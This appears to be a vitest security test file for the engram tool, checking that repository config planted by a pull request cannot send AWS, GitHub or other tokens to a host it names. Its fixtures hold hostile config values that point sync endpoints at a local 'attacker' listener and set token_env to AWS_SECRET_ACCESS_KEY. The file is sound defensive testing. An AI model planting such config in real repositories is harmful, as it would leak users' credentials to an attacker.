/**
 * A repository cannot choose where a credential goes or which one (docs/security.md): each
 * attack of issue 25 item 1, through the bins, on a real repository whose config/dev.toml a
 * pull request wrote, with a listener on 127.0.0.1 standing in for the attacker's server.
 * Without the environment's leave (ENGRAM_ALLOW_HOSTS, ENGRAM_ALLOW_TOKEN_VARS) nothing
 * reaches it; the user's own environment still sends where the user says.
 */
import { mkdirSync } from "node:fs";
import { afterAll, afterEach, beforeEach, describe, expect, it } from "vitest";
import { type BinResult, describeResult, director, worker } from "../support/bins.js";
import { FakeGraphiti } from "../support/fake-graphiti.js";
import { Listener } from "../support/listener.js";
import { BRANCH, setup } from "../support/proposals.js";
import { git, TempDirs, type TempRepo } from "../support/repo.js";

const dirs = new TempDirs();
afterAll(() => dirs.cleanup());

const AWS = "aws-secret-value-0123456789";
const GH = "ghs_github-token-0123456789";
/** The victim's environment: real secrets, and no leave for any host or variable. */
const VICTIM = {
  ENGRAM_ALLOW_HOSTS: undefined,
  ENGRAM_ALLOW_TOKEN_VARS: undefined,
  AWS_SECRET_ACCESS_KEY: AWS,
  NOTION_TOKEN: "notion-secret-0123456789",
  TANA_TOKEN: "tana-secret-0123456789",
  TANA_LOCAL_TOKEN: "tana-local-secret-0123456789",
  SOURCE_DATE_EPOCH: "1800000000",
};

let attacker: Listener;
beforeEach(async () => {
  attacker = new Listener();
  await attacker.start();
});
afterEach(() => attacker.stop());

/** A repository with public memory, its config as a pull request left it. */
async function victimRepo(config: string[]): Promise<TempRepo> {
  const repo = dirs.repo("engram-victim-");
  expect((await director(["init"], { cwd: repo.dir })).code).toBe(0);
  repo.writeConfig(["[memory]", "buffer_keep_recent_events = 0", ...config, ""].join("\n"));
  // A public episode: what the sync policy sends to every store.
  const lesson = {
    kind: "lesson",
    text: "the deploy fails on fridays",
    confidence: 0.95,
    outcome: "failure",
    privacy: "public",
    topics: ["deploy"],
  };
  const file = repo.write("notes.ndjson", `${JSON.stringify(lesson)}\n`);
  const emitted = await worker(["emit", "--from", file], { cwd: repo.dir, env: VICTIM });
  expect(emitted.code, describeResult(emitted)).toBe(0);
  const ran = await director(["run", "--force"], { cwd: repo.dir, env: VICTIM });
  expect(ran.code, describeResult(ran)).toBe(0);
  return repo;
}

function refused(r: BinResult, key: string, leave: string): void {
  expect(r.code, describeResult(r)).toBe(2);
  expect(r.stderr).toContain(key);
  expect(r.stderr).toContain(leave);
  expect(`${r.stdout}${r.stderr}`).not.toContain(AWS);
}

describe("a repository's config cannot send credentials to a host it names", () => {
  it("[sync.notion] base_url and token_env = AWS_SECRET_ACCESS_KEY: nothing reaches the listener", async () => {
    const both = await victimRepo([
      "[sync.notion]",
      `base_url = "${attacker.url}"`,
      'token_env = "AWS_SECRET_ACCESS_KEY"',
      'parent_page_id = "page"',
    ]);
    for (const cmd of [
      ["sync", "init", "--target", "notion"],
      ["sync", "run", "--target", "notion"],
    ]) {
      refused(
        await director(cmd, { cwd: both.dir, env: VICTIM }),
        "[sync.notion] base_url",
        "ENGRAM_ALLOW_HOSTS",
      );
    }
    // The user allows the host for a server of their own: the variable is still refused.
    const allowed = { ...VICTIM, ENGRAM_ALLOW_HOSTS: "http://127.0.0.1:*" };
    const r = await director(["sync", "init", "--target", "notion"], {
      cwd: both.dir,
      env: allowed,
    });
    refused(r, "[sync.notion] token_env", "ENGRAM_ALLOW_TOKEN_VARS");
    expect(attacker.heard).toEqual([]);
  });

  it("--config ..ci/engram.toml inside the repository is the repository's, not the user's", async () => {
    const repo = await victimRepo([]);
    repo.write(
      "..ci/engram.toml",
      [
        "[sync.notion]",
        `base_url = "${attacker.url}"`,
        'token_env = "AWS_SECRET_ACCESS_KEY"',
        'parent_page_id = "page"',
        "",
      ].join("\n"),
    );
    refused(
      await director(["sync", "init", "--target", "notion", "--config", "..ci/engram.toml"], {
        cwd: repo.dir,
        env: VICTIM,
      }),
      "[sync.notion] base_url",
      "ENGRAM_ALLOW_HOSTS",
    );
    expect(attacker.heard).toEqual([]);
  });

  it("[sync.tana] endpoint, local_api_url and token_env: nothing reaches the listener", async () => {
    const repo = await victimRepo([
      "[sync.tana]",
      `endpoint = "${attacker.url}/addToNodeV2"`,
      `local_api_url = "${attacker.url}"`,
      'token_env = "AWS_SECRET_ACCESS_KEY"',
      'local_token_env = "AWS_SECRET_ACCESS_KEY"',
    ]);
    for (const cmd of [
      ["sync", "init", "--target", "tana"],
      ["sync", "run", "--target", "tana"],
    ]) {
      refused(
        await director(cmd, { cwd: repo.dir, env: VICTIM }),
        "[sync.tana] endpoint",
        "ENGRAM_ALLOW_HOSTS",
      );
    }
    const allowed = { ...VICTIM, ENGRAM_ALLOW_HOSTS: "http://127.0.0.1:*" };
    refused(
      await director(["sync", "run", "--target", "tana"], { cwd: repo.dir, env: allowed }),
      "[sync.tana] token_env",
      "ENGRAM_ALLOW_TOKEN_VARS",
    );
    expect(attacker.heard).toEqual([]);
  });

  it("[sync.graphiti] url: memory is not sent to the listener; ENGRAM_GRAPHITI_URL is", async () => {
    const repo = await victimRepo([
      "[sync.graphiti]",
      `url = "${attacker.url}/mcp/"`,
      "retries = 0",
      "confirm_wait_seconds = 5",
    ]);
    refused(
      await director(["sync", "run", "--target", "graphiti"], { cwd: repo.dir, env: VICTIM }),
      "[sync.graphiti] url",
      "ENGRAM_GRAPHITI_URL",
    );
    // A host allowed for https (the default, or with its port) is not allowed on plain http.
    const port = new URL(attacker.url).port;
    for (const hosts of ["127.0.0.1", `127.0.0.1:${port}`, `https://127.0.0.1:${port}`]) {
      refused(
        await director(["sync", "run", "--target", "graphiti"], {
          cwd: repo.dir,
          env: { ...VICTIM, ENGRAM_ALLOW_HOSTS: hosts },
        }),
        "[sync.graphiti] url",
        `add http://127.0.0.1:${port} to ENGRAM_ALLOW_HOSTS`,
      );
    }
    // The user's own server, named by the environment, wins over the repository's.
    const mine = new FakeGraphiti();
    await mine.start();
    try {
      const r = await director(["sync", "run", "--target", "graphiti", "--json"], {
        cwd: repo.dir,
        env: { ...VICTIM, ENGRAM_GRAPHITI_URL: mine.url },
      });
      expect(r.code, describeResult(r)).toBe(0);
      expect(mine.calls.map((c) => c.episode_body).join("\n")).toContain("the deploy fails");
    } finally {
      await mine.stop();
    }
    expect(attacker.heard).toEqual([]);
  });
});

describe("remote recall asks only the stores the environment allows", () => {
  it("worker recall with low confidence: neither Notion nor Graphiti at the listener", async () => {
    const repo = await victimRepo([
      "[sync.notion]",
      `base_url = "${attacker.url}"`,
      "[sync.notion.databases]",
      'episodes = "db-episodes"',
      "[sync.graphiti]",
      `url = "${attacker.url}/mcp/"`,
      "retries = 0",
    ]);
    // Memory was synced to Graphiti once: recall would ask it.
    mkdirSync(repo.path(".engram", "sync", "graphiti"), { recursive: true });
    const r = await worker(["recall", "deploy fridays", "--confidence", "0.2", "--json"], {
      cwd: repo.dir,
      env: VICTIM,
    });
    expect(r.code, describeResult(r)).toBe(0);
    expect(r.stdout).toContain("ENGRAM_ALLOW_HOSTS");
    expect(attacker.heard).toEqual([]);
  });
});

describe("GITHUB_TOKEN goes only where the environment says", () => {
  it("[github] api_url naming the listener: run --pr refuses before any request", async () => {
    const { clone } = await setup(dirs);
    clone.writeConfig(
      [
        "[memory]",
        "buffer_keep_recent_events = 0",
        "[github]",
        `api_url = "${attacker.url}"`,
        'repository = "octo/app"',
        "",
      ].join("\n"),
    );
    git(clone.dir, ["commit", "-qam", "a pull request's config"]);
    const note = ["emit", "--kind", "fact", "--text", "the token must stay home"];
    expect((await worker(note, { cwd: clone.dir })).code).toBe(0);
    const env = { ...VICTIM, GITHUB_TOKEN: GH, GITHUB_API_URL: undefined };
    const r = await director(["run", "--pr", "--force", "--json"], { cwd: clone.dir, env });
    expect(r.code, describeResult(r)).toBe(2);
    expect(r.stderr).toContain("[github] api_url");
    expect(r.stderr).toContain("ENGRAM_ALLOW_HOSTS");

    // With GITHUB_API_URL set (as in Actions), the environment's API is the one asked.
    const github = new Listener();
    await github.start();
    try {
      await director(["run", "--pr", "--force", "--json"], {
        cwd: clone.dir,
        env: { ...env, GITHUB_API_URL: github.url, GITHUB_REPOSITORY: "octo/app" },
      });
      expect(github.heard.length).toBeGreaterThan(0);
      expect(github.heard[0]?.authorization).toBe(`token ${GH}`);
    } finally {
      await github.stop();
    }
    expect(attacker.heard).toEqual([]);
    expect(attacker.transcript()).not.toContain(GH);
    expect(BRANCH).toBe("engram/memory");
  });
});
